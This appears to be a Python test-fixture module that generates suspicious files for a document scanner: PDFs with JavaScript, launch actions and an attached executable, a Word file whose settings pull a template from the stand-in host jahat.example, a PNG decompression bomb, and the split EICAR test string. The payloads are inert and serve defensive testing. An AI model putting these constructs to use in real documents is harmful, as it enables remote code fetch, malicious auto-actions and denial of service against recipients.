"""Files made to be looked at: PDFs that do something, office packages that carry something, pictures, bombs, EICAR."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

PDF = "application/pdf"
OFFICE = "application/vnd.openxmlformats-officedocument."
WORD = OFFICE + "wordprocessingml.document"
# In two halves, so that no scanner on a developer's machine takes this file away.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _written(writer: PdfWriter) -> bytes:
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def blank(pages: int = 1, width: int = 595, height: int = 842) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width, height)
    return writer


def pdf_of(pages: int, width: int = 595, height: int = 842) -> bytes:
    return _written(blank(pages, width, height))


def pdf_with_script() -> bytes:
    writer = blank()
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    return _written(writer)


def pdf_with_attachment(content: bytes = b"lampiran") -> bytes:
    writer = blank()
    writer.add_attachment("lampiran.exe", content)
    return _written(writer)


def pdf_that_opens(kind: str, **more: str) -> bytes:
    """With an OpenAction of this kind: /Launch, /URI, /JavaScript, /GoTo ..."""
    writer = blank()
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for name, text in more.items():
        action[NameObject("/" + name)] = TextStringObject(text)
    writer.root_object[NameObject("/OpenAction")] = action
    return _written(writer)


def pdf_with_page_action() -> bytes:
    writer = blank(2)
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    note = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                             NameObject("/A"): script})
    writer.pages[1][NameObject("/Annots")] = ArrayObject([note])
    return _written(writer)


def docx(text: str = "Isi dokumen.", body: str | None = None, extra: dict[str, bytes] | None = None, rels: str = "") -> bytes:
    made = io.BytesIO()
    inner = body if body is not None else "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.split("\n"))
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/word/document.xml" ContentType="{WORD}.main+xml"/></Types>',
        )
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>')
        archive.writestr(
            "word/document.xml",
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            f"<w:body>{inner}</w:body></w:document>",
        )
        if rels:
            archive.writestr(
                "word/_rels/settings.xml.rels",
                f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>',
            )
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return made.getvalue()


TEMPLATE = (
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="http://jahat.example/t.dotm" TargetMode="External"/>'
)


def zip_of(**members: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("_", "."), content)
    return made.getvalue()


def picture(kind: str = "PNG", width: int = 1280, height: int = 720, mode: str = "RGB", **more) -> bytes:
    made = io.BytesIO()
    Image.new(mode, (width, height), 128 if mode == "L" else None).save(made, kind, **more)
    return made.getvalue()


def flood(width: int = 50_000, height: int = 50_000) -> bytes:
    """A small PNG that unpacks to 2.5 thousand million pixels."""

    def part(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(bytes(1 + width // 8)) for _ in range(2000)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", header) + part(b"IDAT", rows) + part(b"IEND", b"")
